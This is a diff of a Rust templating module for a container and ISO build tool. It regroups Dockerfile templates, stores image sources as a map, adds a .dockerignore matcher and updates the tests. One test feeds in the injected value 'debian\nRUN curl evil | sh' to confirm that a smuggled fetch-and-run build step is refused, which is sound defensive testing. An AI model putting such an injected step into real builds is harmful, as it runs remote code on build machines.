@@ -2,40 +2,58 @@
 //! binary and `--templates DIR` replaces any of them; a build context is a directory holding
 //! the rendered Dockerfile and the files it copies.
 
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
 use tera::{Context, Tera};
 
-use crate::config::{Resolved, SETTINGS};
+use crate::config::{Kind, Resolved, SETTINGS};
 use crate::yaml;
 
-/// The templates forge knows, with their built-in text.
+/// The templates forge knows, with their built-in text, grouped by what they build: image
+/// sources, images, the per-OS preparation of the base image, and the ISO.
 const TEMPLATES: &[(&str, &str)] = &[
     ("sources.yaml", include_str!("../templates/sources.yaml")),
-    (
-        "base.Dockerfile",
-        include_str!("../templates/base.Dockerfile"),
-    ),
-    (
-        "user.Dockerfile",
-        include_str!("../templates/user.Dockerfile"),
-    ),
-    (
-        "provider.Dockerfile",
-        include_str!("../templates/provider.Dockerfile"),
-    ),
-    (
-        "installer.Dockerfile",
-        include_str!("../templates/installer.Dockerfile"),
-    ),
     (
         "profile-snippet.yaml",
         include_str!("../templates/profile-snippet.yaml"),
     ),
-    ("grub.cfg", include_str!("../templates/grub.cfg")),
     (
-        "iso-tools.Dockerfile",
-        include_str!("../templates/iso-tools.Dockerfile"),
+        "images/os.Dockerfile",
+        include_str!("../templates/images/os.Dockerfile"),
+    ),
+    (
+        "images/base.Dockerfile",
+        include_str!("../templates/images/base.Dockerfile"),
+    ),
+    (
+        "images/provider.Dockerfile",
+        include_str!("../templates/images/provider.Dockerfile"),
+    ),
+    (
+        "images/installer.Dockerfile",
+        include_str!("../templates/images/installer.Dockerfile"),
+    ),
+    (
+        "os/ubuntu.Dockerfile",
+        include_str!("../templates/os/ubuntu.Dockerfile"),
+    ),
+    (
+        "os/opensuse-leap.Dockerfile",
+        include_str!("../templates/os/opensuse-leap.Dockerfile"),
+    ),
+    (
+        "os/sles.Dockerfile",
+        include_str!("../templates/os/sles.Dockerfile"),
+    ),
+    (
+        "os/rhel.Dockerfile",
+        include_str!("../templates/os/rhel.Dockerfile"),
+    ),
+    ("iso/grub.cfg", include_str!("../templates/iso/grub.cfg")),
+    (
+        "iso/iso-tools.Dockerfile",
+        include_str!("../templates/iso/iso-tools.Dockerfile"),
     ),
 ];
 
@@ -61,14 +79,17 @@ pub enum RenderError {
     },
 }
 
-/// Where each layer of the images comes from.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Sources {
-    pub base_image: String,
-    pub provider_image: String,
-    pub agent_image: String,
-    /// With `{version}` standing for the Kubernetes version; empty when not configured.
-    pub k8s_image: String,
+/// Where the images of a build come from: `sources.yaml` rendered, by key (`base_image`,
+/// `provider_image`, `agent_image`, `third_party_image`, `alpine_image`, `luet_repo`,
+/// `k8s_package`, `k8s_image`, ...). `{version}` stands for the Kubernetes version.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Sources(pub BTreeMap<String, String>);
+
+impl Sources {
+    /// A source, empty when the template leaves it out.
+    pub fn get(&self, key: &str) -> &str {
+        self.0.get(key).map_or("", String::as_str)
+    }
 }
 
 /// The loaded templates.
@@ -133,31 +154,20 @@ impl Templates {
         Ok(rendered)
     }
 
-    /// `sources.yaml` rendered, each entry overridden by its setting (BASE_IMAGE, ...).
+    /// `sources.yaml` rendered with the settings.
     pub fn sources(&self, settings: &Resolved) -> Result<Sources, RenderError> {
         let text = self.render("sources.yaml", &context(settings))?;
         let doc = yaml::parse(&text).map_err(|e| RenderError::Template {
             name: "sources.yaml".into(),
             detail: format!("line {}: {}", e.pos.line, e.message),
         })?;
-        let pick = |key: &str, setting: &str| {
-            settings
-                .get(setting)
-                .map(str::to_string)
-                .unwrap_or_else(|| {
-                    doc.root
-                        .get(key)
-                        .and_then(yaml::Node::as_str)
-                        .unwrap_or_default()
-                        .to_string()
-                })
-        };
-        Ok(Sources {
-            base_image: pick("base_image", "BASE_IMAGE"),
-            provider_image: pick("provider_image", "PROVIDER_IMAGE"),
-            agent_image: pick("agent_image", "AGENT_IMAGE"),
-            k8s_image: pick("k8s_image", "K8S_IMAGE"),
-        })
+        Ok(Sources(
+            doc.root
+                .entries()
+                .iter()
+                .filter_map(|e| Some((e.key.clone(), e.value.as_str()?.to_string())))
+                .collect(),
+        ))
     }
 }
 
@@ -185,7 +195,7 @@ fn neutralize(value: serde_json::Value) -> serde_json::Value {
 }
 
 /// Context values that are multi-line by design, checked when they were rendered.
-const VERBATIM: &[&str] = &["user_dockerfile"];
+const VERBATIM: &[&str] = &["os_preparation"];
 
 /// The number of instructions of a Dockerfile: logical lines (a trailing `\` continues one)
 /// that are neither blank nor comments.
@@ -230,16 +240,65 @@ fn grub_quote_filter(
         .map_err(tera::Error::msg)
 }
 
-/// Every setting, by its lower-case name, as template variables.
+/// Every setting, by its lower-case name, as template variables (switches as `true` or
+/// `false`).
 pub fn context(settings: &Resolved) -> Context {
     let mut context = Context::new();
     for def in SETTINGS {
-        context.insert(
-            def.name.to_ascii_lowercase(),
-            settings.get(def.name).unwrap_or_default(),
-        );
+        let value = settings.get(def.name).unwrap_or_default();
+        let value = match def.kind {
+            Kind::Bool | Kind::Unimplemented => value.to_ascii_lowercase(),
+            _ => value.to_string(),
+        };
+        context.insert(def.name.to_ascii_lowercase(), &value);
     }
     context
+}
+
+/// The `.dockerignore` of a context directory as a predicate on relative paths (last match
+/// wins; `!` re-includes; a pattern also covers everything below a matching directory), with
+/// the relative paths in `exclude` always left out.
+pub type Ignore = Box<dyn Fn(&Path) -> bool + Send + Sync>;
+
+pub fn dockerignore(dir: &Path, exclude: &[PathBuf]) -> std::io::Result<Ignore> {
+    let exclude = exclude.to_vec();
+    let text = match std::fs::read_to_string(dir.join(".dockerignore")) {
+        Ok(text) => text,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(e),
+    };
+    let mut rules: Vec<(globset::GlobMatcher, bool)> = Vec::new();
+    for line in text
+        .lines()
+        .map(str::trim)
+        .filter(|l| !l.is_empty() && !l.starts_with('#'))
+    {
+        let (pattern, include) = match line.strip_prefix('!') {
+            Some(p) => (p.trim(), true),
+            None => (line, false),
+        };
+        let pattern = pattern.trim_start_matches("./").trim_start_matches('/');
+        let glob = globset::GlobBuilder::new(pattern)
+            .literal_separator(true)
+            .build()
+            .map_err(std::io::Error::other)?;
+        rules.push((glob.compile_matcher(), include));
+    }
+    Ok(Box::new(move |path: &Path| {
+        if exclude.iter().any(|e| path.starts_with(e)) {
+            return true;
+        }
+        let mut excluded = false;
+        for (matcher, include) in &rules {
+            if path
+                .ancestors()
+                .any(|a| !a.as_os_str().is_empty() && matcher.is_match(a))
+            {
+                excluded = !include;
+            }
+        }
+        excluded
+    }))
 }
 
 /// Write a build context: the Dockerfile and each `(path in context, source file or directory)`.
@@ -306,34 +365,77 @@ mod tests {
     use super::*;
     use crate::config::{resolve, Inputs};
 
-    #[test]
-    fn sources_default_to_the_canvos_images_and_settings_override_them() {
+    fn sources(sets: &[(&str, &str)]) -> Sources {
         let settings = resolve(&Inputs {
-            sets: vec![
-                ("K8S_DISTRIBUTION".into(), "k3s".into()),
-                ("AGENT_IMAGE".into(), "local/agent:1".into()),
-            ],
+            sets: sets
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect(),
             ..Inputs::default()
         });
-        let sources = Templates::load(None).unwrap().sources(&settings).unwrap();
+        Templates::load(None).unwrap().sources(&settings).unwrap()
+    }
+
+    #[test]
+    fn sources_default_to_the_canvos_images_and_settings_override_them() {
+        let s = sources(&[
+            ("K8S_DISTRIBUTION", "k3s"),
+            ("AGENT_IMAGE", "local/agent:1"),
+        ]);
         assert_eq!(
-            sources.base_image,
-            "us-docker.pkg.dev/palette-images/edge/kairos-ubuntu:22.04-core-amd64-generic-v3.5.9"
+            s.get("base_image"),
+            "us-docker.pkg.dev/palette-images/edge/kairos-ubuntu:22.04-core-amd64-generic-v0.17.1"
         );
         assert_eq!(
-            sources.provider_image,
-            "us-docker.pkg.dev/palette-images/edge/kairos-io/provider-k3s:v4.7.1"
+            s.get("provider_image"),
+            "us-docker.pkg.dev/palette-images/edge/kairos-io/provider-k3s:v4.10.3"
         );
-        assert_eq!(sources.agent_image, "local/agent:1");
-        assert_eq!(sources.k8s_image, "");
+        assert_eq!(s.get("agent_image"), "local/agent:1");
+        assert_eq!(
+            s.get("third_party_image"),
+            "us-docker.pkg.dev/palette-images/third-party/spectro-third-party:4.8"
+        );
+        assert_eq!(
+            s.get("alpine_image"),
+            "us-docker.pkg.dev/palette-images/edge/canvos/alpine:3.20"
+        );
+        assert_eq!(
+            s.get("luet_repo"),
+            "us-docker.pkg.dev/palette-images/edge/luet-repo-amd"
+        );
+        assert_eq!(s.get("k8s_package"), "k8s/k3s@{version}-k3s1");
+        assert_eq!(s.get("k8s_image"), "");
+    }
+
+    #[test]
+    fn dockerignore_excludes_and_reincludes() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(".dockerignore"),
+            "# build junk\n*.log\nsecrets\n!secrets/README\n",
+        )
+        .unwrap();
+        let ignored = dockerignore(dir.path(), &[PathBuf::from("build")]).unwrap();
+        assert!(ignored(Path::new("debug.log")));
+        assert!(
+            !ignored(Path::new("notes/debug.log")),
+            "`*` does not cross directories"
+        );
+        assert!(ignored(Path::new("secrets/key.pem")));
+        assert!(!ignored(Path::new("secrets/README")));
+        assert!(!ignored(Path::new("Dockerfile")));
+        assert!(
+            ignored(Path::new("build/manifest.json")),
+            "the output is left out"
+        );
     }
 
     #[test]
     fn a_template_directory_replaces_single_templates() {
         let dir = tempfile::tempdir().unwrap();
         std::fs::write(
-            dir.path().join("user.Dockerfile"),
-            "RUN echo {{ custom_tag }}\n",
+            dir.path().join("profile-snippet.yaml"),
+            "tag: {{ custom_tag }}\n",
         )
         .unwrap();
         let templates = Templates::load(Some(dir.path())).unwrap();
@@ -343,11 +445,12 @@ mod tests {
         });
         assert_eq!(
             templates
-                .render("user.Dockerfile", &context(&settings))
+                .render("profile-snippet.yaml", &context(&settings))
                 .unwrap(),
-            "RUN echo demo\n"
+            "tag: demo\n"
         );
-        std::fs::write(dir.path().join("base.Dockerfile"), "FROM {{ oops").unwrap();
+        std::fs::create_dir(dir.path().join("images")).unwrap();
+        std::fs::write(dir.path().join("images/base.Dockerfile"), "FROM {{ oops").unwrap();
         assert!(matches!(
             Templates::load(Some(dir.path())),
             Err(RenderError::Template { .. })
@@ -363,19 +466,20 @@ mod tests {
     #[test]
     fn a_value_that_adds_a_build_step_is_refused() {
         let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join("images")).unwrap();
         std::fs::write(
-            dir.path().join("base.Dockerfile"),
+            dir.path().join("images/base.Dockerfile"),
             "FROM {{ base_image }}\nRUN true\n",
         )
         .unwrap();
         let templates = Templates::load(Some(dir.path())).unwrap();
         let mut ctx = Context::new();
         ctx.insert("base_image", "debian:bookworm");
-        assert!(templates.render_dockerfile("base.Dockerfile", &ctx).is_ok());
+        assert!(templates.render_dockerfile("images/base.Dockerfile", &ctx).is_ok());
         for injected in ["debian\nRUN curl evil | sh", "debian \\"] {
             ctx.insert("base_image", injected);
             let err = templates
-                .render_dockerfile("base.Dockerfile", &ctx)
+                .render_dockerfile("images/base.Dockerfile", &ctx)
                 .unwrap_err();
             assert!(
                 matches!(err, RenderError::Injected { expected: 2, .. }),
@@ -406,7 +510,7 @@ mod tests {
         ctx.insert("default_entry", "installer");
         let menu = Templates::load(None)
             .unwrap()
-            .render("grub.cfg", &ctx)
+            .render("iso/grub.cfg", &ctx)
             .unwrap();
         assert!(menu.contains("set user_args='quiet nomodeset'\n"), "{menu}");
     }
